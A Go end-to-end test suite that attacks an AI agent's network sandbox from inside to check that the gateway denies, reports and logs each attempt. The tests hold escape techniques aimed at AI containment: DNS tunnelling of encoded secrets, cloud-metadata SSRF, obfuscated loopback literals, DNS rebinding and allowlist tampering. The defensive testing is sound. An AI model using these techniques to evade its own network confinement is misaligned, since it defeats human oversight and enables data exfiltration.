package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net/netip"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"agentprocess/internal/audit"
	"agentprocess/internal/scripted"
)

func quiet() *log.Logger { return log.New(io.Discard, "", 0) }

// What a refusal looks like from inside.
const (
	refused   = `.*HTTP/1\.1 403 .*X-Agent-Process-Denied: net-[0-9]+.*agent-process denied .*\(net-[0-9]+\) reason: .*`
	forbidden = `.*403 Denied by agent-process \(net-[0-9]+\).*`
	malformed = `.*HTTP/1\.1 4[0-9][0-9] .*X-Agent-Process-Denied: net-[0-9]+.*`
	alerted   = `.*remote error: tls: access denied`
	cut       = `.*(connection reset by peer|EOF|broken pipe)`
	noName    = `after [0-9]+ ms: NameError`
)

// connect is a CONNECT by hand.
func connect(target string) string {
	return fmt.Sprintf(`./probe raw tcp 127.0.0.1:3128 'CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n'`, target, target)
}

// get is a request to the proxy by hand.
func get(url, host string) string {
	return fmt.Sprintf(`./probe raw tcp 127.0.0.1:3128 'GET %s HTTP/1.1\r\nHost: %s\r\n\r\n'`, url, host)
}

// send is anything to the proxy.
func send(bytes string) string {
	return `./probe raw tcp 127.0.0.1:3128 '` + bytes + `'`
}

// TestAttackGateway tries to break each sentence about the gateway from inside.
func TestAttackGateway(t *testing.T) {
	w := newWorld(t)
	h := newAttacked(t, map[string]string{".agent-process/allowlist": "# what the project needs\n\nlisted.example # a comment\n"})
	h.trust()
	out := newOutside(t)
	flags := slices.Concat(out.flags(), []string{"--env", "HOSTPORT4=" + out.loopback4, "--env", "HOSTPORT6=" + out.loopback6})
	attacks := slices.Concat(pathAttacks(), resolverAttacks(), ruleAttacks(), hostAttacks(), smuggling(), literalAttacks(), addressAttacks())
	r, results := h.assault("gateway", flags, attacks)
	out.check(t)
	checkDenials(t, r, attacks, results)
	checkRecord(t, r, out)
	w.check(t)
}

// outside is everything that a gateway could reach.
type outside struct {
	sites                map[string]*site
	traps                []*world
	dns                  *hostDNS
	loopback4, loopback6 string
}

// guarded are names that are listed but resolve to what must not be dialled.
func guarded() map[string]string {
	return map[string]string{
		"private10.example": "10.0.0.7", "private172.example": "172.16.0.7", "private192.example": "192.168.1.7", "loopback.example": "127.0.0.1",
		"loopback8.example": "127.8.8.8", "loopback6.example": "::1", "unspecified.example": "0.0.0.0", "linklocal.example": "169.254.1.1",
		"metadata.example": "169.254.169.254", "cgnat.example": "100.64.0.7", "multicast.example": "224.0.0.1", "broadcast.example": "255.255.255.255",
		"mapped.example": "::ffff:127.0.0.1", "mappedprivate.example": "::ffff:10.0.0.7", "compatible.example": "::127.0.0.1", "nat64.example": "64:ff9b::7f00:1",
		"nat64private.example": "64:ff9b::a00:7", "sixtofour.example": "2002:7f00:1::1", "teredo.example": "2001::1", "unique.example": "fd00::7",
		"linklocal6.example": "fe80::7", "multicast6.example": "ff02::1", "metadata6.example": "fd00:ec2::254", "benchmark.example": "198.18.0.1",
		"documentation.example": "192.0.2.1", "future.example": "240.0.0.1",
	}
}

func newOutside(t *testing.T) *outside {
	t.Helper()
	authority, err := scripted.NewAuthority(time.Now())
	if err != nil {
		t.Fatal(err)
	}
	o := &outside{sites: map[string]*site{}}
	for _, s := range []struct {
		name, address string
		secure        bool
	}{
		{"listed.example", "127.0.0.1:0", true},
		{"good.example", "127.0.0.1:0", true},
		{"wild.example", "127.0.0.1:0", true},
		{"plain.example", "127.0.0.1:0", false},
		{"port.example", "127.0.0.1:0", true},
		{"xn--bcher-kva.example", "127.0.0.1:0", true},
		{"evil.example", "127.0.0.1:0", true},
		{"evilplain.example", "127.0.0.1:0", false},
		{"public.example", "[2d00::1]:443", true},
	} {
		o.sites[s.name] = newSite(t, authority, s.name, s.address, s.secure)
	}
	o.traps = []*world{
		trap(t, []string{"127.0.0.1", "::1", "10.0.0.7", "172.16.0.7", "192.168.1.7", "169.254.169.254", "169.254.1.1", "100.64.0.7", nobodyAddress, "198.18.0.1", "fd00::7"}, "80", "443", "8443"),
	}
	here := &world{}
	o.loopback4, o.loopback6 = here.listen(t, "tcp", "127.0.0.1:0").String(), here.listen(t, "tcp", "[::1]:0").String()
	o.traps = append(o.traps, here)
	zone := map[string][][]string{
		"public.example": {{"2d00::1"}},
		"rebind.example": {{"2d00::1"}, {"127.0.0.1"}},
		"mixed.example":  {{"10.0.0.7", "127.0.0.1", "2d00::1", "::1"}},
	}
	for name, addr := range guarded() {
		zone[name] = [][]string{{addr}}
	}
	o.dns = newHostDNS(t, zone)
	return o
}

// flags are what the agent is allowed, and where those names are.
func (o *outside) flags() []string {
	var flags []string
	rules := []string{"good.example", "*.wild.example", "http://plain.example", "port.example:8443", "bücher.example", "public.example", "rebind.example", "mixed.example"}
	for name := range guarded() {
		rules = append(rules, name, "http://"+name)
	}
	for _, rule := range rules {
		flags = append(flags, "--allow", rule)
	}
	resolve := map[string]string{
		"a.wild.example": "wild.example", "a.b.c.wild.example": "wild.example", "wild.example": "wild.example", "evilwild.example": "evil.example",
		"good.example.evil.example": "evil.example", "xn--bcher-kva.example": "xn--bcher-kva.example",
	}
	for _, name := range []string{"listed.example", "good.example", "plain.example", "port.example", "evil.example", "evilplain.example"} {
		resolve[name] = name
	}
	for name, at := range resolve {
		flags = append(flags, "--resolve", name+"="+o.sites[at].addr)
	}
	return flags
}

// check looks who arrived where.
func (o *outside) check(t *testing.T) {
	t.Helper()
	for _, trap := range o.traps {
		if hits := trap.arrivals(); len(hits) > 0 {
			t.Errorf("%s: %q", saysAddresses, hits)
		}
	}
	for _, name := range []string{"evil.example", "evilplain.example"} {
		if got := o.sites[name].visitors(); len(got) > 0 {
			t.Errorf("%s was visited: %+v", name, got)
		}
	}
	for name, s := range o.sites {
		for _, v := range s.visitors() {
			if bad := strings.ToLower(v.host + v.sni); bad != name && !strings.HasSuffix(bad, "."+name) && bad != name+":8443" && bad != "rebind.example" && bad != "mixed.example" {
				t.Errorf("%s: %s was asked for %+v", saysOneHost, name, v)
			}
		}
	}
	may := []string{"mixed.example", "public.example", "rebind.example"}
	for name := range guarded() {
		may = append(may, name)
	}
	for _, name := range o.dns.names() {
		if !slices.Contains(may, name) && !strings.HasSuffix(name, ".wild.example") {
			t.Errorf("%s: %q was looked up", saysLookups, name)
		}
	}
	if !slices.Contains(o.dns.names(), "public.example") {
		t.Error("the host's resolver was never asked: nothing was shown")
	}
}

// checkDenials holds what agents were told against the record: the same id,
// within a second, with the line that is missing.
func checkDenials(t *testing.T, r *agentRun, attacks []attack, results map[string]probed) {
	t.Helper()
	denied := map[string]audit.Request{}
	for _, q := range all[audit.Request](r) {
		if q.Verdict == audit.Deny {
			denied[q.ID] = q
		}
	}
	id, took := regexp.MustCompile(`net-\d+`), regexp.MustCompile(`after (\d+) ms`)
	told := 0
	for _, a := range attacks {
		output := results[a.name].Output
		for _, found := range id.FindAllString(output, -1) {
			told++
			if _, ok := denied[found]; !ok {
				t.Errorf("%s: %q: the agent was told %s, which the record does not know as a denial", saysDenial, a.name, found)
			}
		}
		if m := took.FindStringSubmatch(output); m != nil && (a.sees == refused || a.sees == malformed || a.sees == noName) {
			if ms, err := strconv.Atoi(m[1]); err != nil || ms > 1000 {
				t.Errorf("%s: %q took %d ms", saysDenial, a.name, ms)
			}
		}
	}
	if told < 50 {
		t.Errorf("%d ids of denials were seen inside", told)
	}
	for _, q := range denied {
		if q.Reason == "" || q.Host == "" && q.Path != "http" && q.Path != "connect" || q.Duration < 0 || q.Duration > time.Second && q.Path == "dns" {
			t.Errorf("%s: %+v", saysDenial, q)
		}
		lies := strings.Contains(q.Reason, "different hosts") // no line would help
		if q.Host == "evil.example" && q.Port == 443 && !lies && q.Fix != "evil.example" {
			t.Errorf("%s: the missing line is %q: %s", saysDenial, q.Fix, q.Reason)
		}
	}
}

// checkRecord looks for every field of a connection that was allowed.
func checkRecord(t *testing.T, r *agentRun, o *outside) {
	t.Helper()
	rules := map[string]string{
		"listed.example": ".agent-process/allowlist", "good.example": "--allow", "a.b.c.wild.example": "*.wild.example", "plain.example": "http://plain.example",
		"port.example": "port.example:8443", "public.example": "--allow",
	}
	for host, rule := range rules {
		var found []audit.Request
		for _, q := range all[audit.Request](r) {
			if q.Host == host && q.Verdict == audit.Allow && q.Path != "dns" && q.Down > 0 {
				found = append(found, q)
			}
		}
		if len(found) == 0 {
			t.Errorf("%s: nothing about %s", saysRecord, host)
			continue
		}
		for _, q := range found {
			site := o.sites[host]
			if site == nil {
				site = o.sites["wild.example"]
			}
			if q.Address != site.addr || q.Up <= 0 || !strings.Contains(q.Rule, rule) || q.Duration <= 0 || q.ID == "" || q.Port == 0 {
				t.Errorf("%s: %+v", saysRecord, q)
			}
		}
	}
}

// pathAttacks look for another way than the proxy.
func pathAttacks() []attack {
	attacks := []attack{
		{saysOnlyLo, "interfaces", `tail -n +3 /proc/net/dev | cut -d: -f1`, `lo`},
		{saysOnlyLo, "routes and neighbours", `tail -n +2 /proc/net/route; tail -n +2 /proc/net/arp; echo end`, `end`},
		{saysOnlyLo, "server on the host's loopback", `./probe raw tcp $HOSTPORT4 hello || ./probe raw tcp $HOSTPORT6 hello || ./probe udp $HOSTPORT4 hello`, ""},
		{saysOnlyLo, "raw sockets and packets", `./probe __attack calls`, `tried [0-9]+`},
		{saysOnlyLo, "another proxy port", `./probe raw tcp 127.0.0.1:3129 'CONNECT evil.example:443 HTTP/1.1\r\n\r\n' || ./probe raw tcp 127.0.0.2:3128 'CONNECT evil.example:443 HTTP/1.1\r\n\r\n' | grep '200 '`, ""},
	}
	for _, to := range []string{"192.0.2.1:443", "192.0.2.1:80", "198.51.100.7:22", "198.51.100.7:9", "192.0.2.1:853", "192.0.2.1:3128", "[2001:db8::1]:443", "[2001:db8::1]:80", "169.254.169.254:80", "10.0.0.7:443", "[::ffff:192.0.2.1]:443", "[fe80::1]:443"} {
		attacks = append(attacks, attack{saysRedirect, "tcp to " + to, `./probe raw tcp ` + to + ` 'GET / HTTP/1.1\r\nHost: good.example\r\n\r\n'`, `.*(` + cut + `|unreachable|refused|invalid argument)`})
	}
	for _, to := range []string{"192.0.2.1:443", "198.51.100.7:443", "192.0.2.1:9", "192.0.2.1:4433", "[2001:db8::1]:443", "[2001:db8::1]:9", "224.0.0.251:5353", "255.255.255.255:67", "169.254.169.254:80", "192.0.2.1:123"} {
		attacks = append(attacks, attack{saysNoUDP, "udp to " + to, `./probe udp ` + to + ` hello`, ""})
	}
	return append(attacks,
		attack{saysRedirect, "redirected, listed", `./probe tlsdirect good.example:443 good.example`, `.*hello from good\.example`},
		attack{saysRedirect, "redirected, other name by SNI", `./probe tlsdirect good.example:443 evil.example`, alerted},
		attack{saysRedirect, "redirected, no name", `./probe tlsdirect good.example:443 -`, alerted},
		attack{saysRedirect, "redirected, other port", `./probe tlsdirect good.example:8443 good.example`, `.*(` + cut + `|access denied)`},
		attack{saysRedirect, "guess at a synthetic address", `./probe raw tcp 198.18.250.250:443 hello`, cut},
	)
}

// resolverAttacks ask for what must not exist.
func resolverAttacks() []attack {
	attacks := []attack{
		{saysResolver, "listed over UDP", `./probe dns udp 127.0.0.1:53 good.example. A`, `after [0-9]+ ms: Success 198\.1[89]\.[0-9.]+`},
		{saysResolver, "listed over TCP", `./probe dns tcp 127.0.0.1:53 good.example. A`, `after [0-9]+ ms: Success 198\.1[89]\.[0-9.]+`},
		{saysResolver, "listed, v6", `./probe dns udp 127.0.0.1:53 good.example. AAAA`, `after [0-9]+ ms: Success( fd[0-9a-f:]+)?`},
		{saysResolver, "listed, in capitals", `./probe dns udp 127.0.0.1:53 GOOD.Example. A`, `after [0-9]+ ms: Success 198\.1[89]\.[0-9.]+`},
		{saysResolver, "metadata by name", `./probe dns udp 127.0.0.1:53 metadata.google.internal. A`, noName},
		{saysLookups, "lookup of a guess below a wildcard", `./probe dns udp 127.0.0.1:53 c2VjcmV0.wild.example. A; ./probe dns udp 127.0.0.1:53 c2VjcmV0.wild.example. TXT`, `.* Success 198.* Success`},
	}
	for _, kind := range []string{"A", "AAAA", "TXT", "MX", "NS", "CNAME", "SRV", "PTR", "ANY", "NULL", "HTTPS"} {
		attacks = append(attacks, attack{saysLookups, "tunnel by " + kind, `./probe dns udp 127.0.0.1:53 c2VjcmV0LTEyMzQ1Njc4OTAxMjM0NTY3ODkw.` + strings.ToLower(kind) + `.tunnel.example. ` + kind, noName})
	}
	for _, server := range []string{"192.0.2.1:53", "198.51.100.7:53", "[2001:db8::1]:53"} {
		for _, network := range []string{"udp", "tcp"} {
			attacks = append(attacks, attack{saysLookups, network + " to another resolver " + server, `./probe dns ` + network + ` ` + server + ` c2VjcmV0.tunnel.example. A`, `(` + noName + `|.*(` + cut + `|unreachable|timeout|refused))`})
		}
	}
	return append(attacks,
		attack{saysLookups, "DNS over HTTPS", `./probe web POST https://dns.example/dns-query`, `.*Denied by agent-process.*`},
		attack{saysLookups, "DNS over TLS", `./probe tlsdirect 192.0.2.1:853 dns.example`, `.*(` + cut + `|unreachable)`},
		attack{saysLookups, "lookup by asking for it", connect("c2VjcmV0.tunnel.example:443"), refused},
	)
}

// ruleAttacks try names near those that are listed.
func ruleAttacks() []attack {
	attacks := []attack{
		{saysFile, "listed by the project", `./probe tls listed.example:443 listed.example listed.example`, `.*hello from listed\.example`},
		{saysFile, "list changed from inside", `echo evil.example >> .agent-process/allowlist; mkdir -p ~/.config/agent-process; echo evil.example > ~/.config/agent-process/allowlist; git add -A .agent-process; git commit -qm widen; ` + connect("evil.example:443"), refused},
		{saysFile, "commands of ours from inside", `/opt/agent-process/agent-process start x y --allow evil.example --agent exec -- true; ` + connect("evil.example:443"), refused},
		{saysNames, "exactly", `./probe tls good.example:443 good.example good.example`, `.*hello from good\.example`},
		{saysNames, "below a wildcard", `./probe tls a.wild.example:443 a.wild.example a.wild.example`, `.*hello from wild\.example`},
		{saysNames, "far below a wildcard", `./probe tls a.b.c.wild.example:443 a.b.c.wild.example a.b.c.wild.example`, `.*hello from wild\.example`},
		{saysNames, "plain http", `./probe web GET http://plain.example/page`, `.*200 OK hello from plain\.example`},
		{saysNames, "another port", `./probe tls port.example:8443 port.example port.example`, `.*hello from port\.example`},
	}
	for _, target := range []string{
		"evil.example:443", "www.good.example:443", "example:443", "evilgood.example:443", "good.example.evil.example:443", "good.exampl:443", "good.example2:443", "wild.example:443", "evilwild.example:443",
		"good.example:80", "good.example:22", "good.example:8443", "port.example:443", "plain.example:443", "plain.example:8080", "listed.example:444",
	} {
		attacks = append(attacks, attack{saysNames, "connect to " + target, connect(target), refused})
	}
	for _, target := range []string{"http://good.example/", "http://evilplain.example/", "http://plain.example:8080/", "http://plain.example:443/", "http://sub.plain.example/"} {
		attacks = append(attacks, attack{saysNames, "get " + target, `./probe web GET ` + target, forbidden})
	}
	return attacks
}

// literalAttacks spell addresses in every way.
func literalAttacks() []attack {
	var attacks []attack
	for _, literal := range []string{
		"127.0.0.1", "0.0.0.0", "192.0.2.1", "10.0.0.7", "169.254.169.254", "100.64.0.7", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0x7f.1", "0177.0.0.1", "017700000001", "127.0.0.1.",
		"3232235777", "0", "0x0", "1.2.3", "127.000.000.001", "４２.0.0.1", "①②⑦.0.0.1", "127。0。0。1", "localhost", "LOCALHOST", "localhost.", "foo.localhost",
		"[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2001:db8::1]", "[fe80::1%25lo]", "[fe80::1%lo]", "[2002:7f00:1::]", "[0:0:0:0:0:0:0:1]",
	} {
		attacks = append(attacks,
			attack{saysLiterals, "connect to " + literal, connect(literal + ":443"), malformed},
			attack{saysLiterals, "get from " + literal, get("http://"+literal+"/latest/meta-data/", literal), malformed})
	}
	return attacks
}

// addressAttacks go to listed names that lead where nobody may go.
func addressAttacks() []attack {
	attacks := []attack{
		{saysAddresses, "a name that resolves", `./probe tls public.example:443 public.example public.example`, `.*hello from public\.example`},
		{saysAddresses, "a name that changes its mind", `for i in 1 2 3; do ./probe tls rebind.example:443 rebind.example rebind.example; done`, `.*(403|502).*`},
		{saysAddresses, "a name with good and bad addresses", `./probe tls mixed.example:443 mixed.example mixed.example`, `.*hello from public\.example`},
	}
	for name := range guarded() {
		attacks = append(attacks,
			attack{saysAddresses, "connect to " + name, connect(name + ":443"), `.*HTTP/1\.1 (403|502) .*`},
			attack{saysAddresses, "get from " + name, `./probe web GET http://` + name + `/`, `.*(403|502) .*`})
	}
	slices.SortFunc(attacks, func(a, b attack) int { return strings.Compare(a.name, b.name) })
	return attacks
}

// TestAttackDenialIsTold runs denials the way a person sees them: the id that
// the agent was told stands in the person's one line and in the record, and what
// has no words for an agent, such as a raw address, is told to the person within
// a second all the same.
func TestAttackDenialIsTold(t *testing.T) {
	w := newWorld(t)
	h := newAttacked(t, nil)
	raw := []string{"192.0.2.1:9", "[2001:db8::1]:9", "10.0.0.7:22", "[::ffff:192.0.2.7]:5222"}
	script := connect("evil.example:443") + `; ./probe dns udp 127.0.0.1:53 other.example. A; touch work.txt
for to in ` + strings.Join(raw, " ") + `; do echo "begin $to $(date +%s%3N)"; ./probe raw tcp "$to" hello; echo "end $to $(date +%s%3N)"; done`
	out := h.product("start", "told", "Ask", "--agent", "exec", "--", "sh", "-c", script)
	m := regexp.MustCompile(`agent-process denied evil\.example:443 \((net-\d+)\)`).FindStringSubmatch(out)
	if m == nil {
		t.Fatalf("the agent was not told:\n%s", out)
	}
	lines := 0
	for line := range strings.Lines(out) {
		if strings.Contains(line, "denied") && strings.Contains(line, "evil.example:443") && strings.Contains(line, m[1]) && strings.Contains(line, "--allow evil.example") {
			lines++
		}
	}
	if lines != 1 {
		t.Errorf("%s: %d lines tell the person of %s:\n%s", saysDenial, lines, m[1], out)
	}
	if !regexp.MustCompile(`(?m)denied.*other\.example`).MatchString(out) {
		t.Errorf("%s: no line about the name that was looked up:\n%s", saysDenial, out)
	}
	record := h.product("logs", "told", "--json")
	if !strings.Contains(record, `"id":"`+m[1]+`"`) {
		t.Errorf("%s: the record does not hold %s:\n%s", saysDenial, m[1], record)
	}
	for _, to := range raw {
		checkRaw(t, to, out, record)
	}
	w.check(t)
}

// checkRaw looks whether a connection to an address was refused to the agent,
// told to the person and recorded, all within a second.
func checkRaw(t *testing.T, to, out, record string) {
	t.Helper()
	at := func(word string) int64 {
		m := regexp.MustCompile(word + " " + regexp.QuoteMeta(to) + ` (\d+)`).FindStringSubmatch(out)
		if m == nil {
			t.Fatalf("%s: it was not tried:\n%s", to, out)
		}
		ms, err := strconv.ParseInt(m[1], 10, 64)
		if err != nil {
			t.Fatal(err)
		}
		return ms
	}
	begin, end := at("begin"), at("end")
	address := netip.MustParseAddrPort(to)
	shown := netip.AddrPortFrom(address.Addr().Unmap(), address.Port()).String()
	if !regexp.MustCompile(`(?m)denied +` + regexp.QuoteMeta(shown)).MatchString(out) {
		t.Errorf("%s: no line tells the person of %s:\n%s", saysDenial, shown, out)
	}
	var found *audit.Event
	for line := range strings.Lines(record) {
		var e audit.Event
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(e.Data), `"host":"`+address.Addr().Unmap().String()+`"`) && strings.Contains(string(e.Data), `"verdict":"deny"`) && strings.Contains(string(e.Data), fmt.Sprintf(`"port":%d`, address.Port())) {
			found = &e
		}
	}
	if found == nil {
		t.Errorf("%s: %s is not in the record:\n%s", saysDenial, to, record)
		return
	}
	if took := found.Time.UnixMilli() - begin; end-begin > 1000 || took > 1000 {
		t.Errorf("%s: %s was refused after %d ms and recorded after %d ms", saysDenial, to, end-begin, took)
	}
}
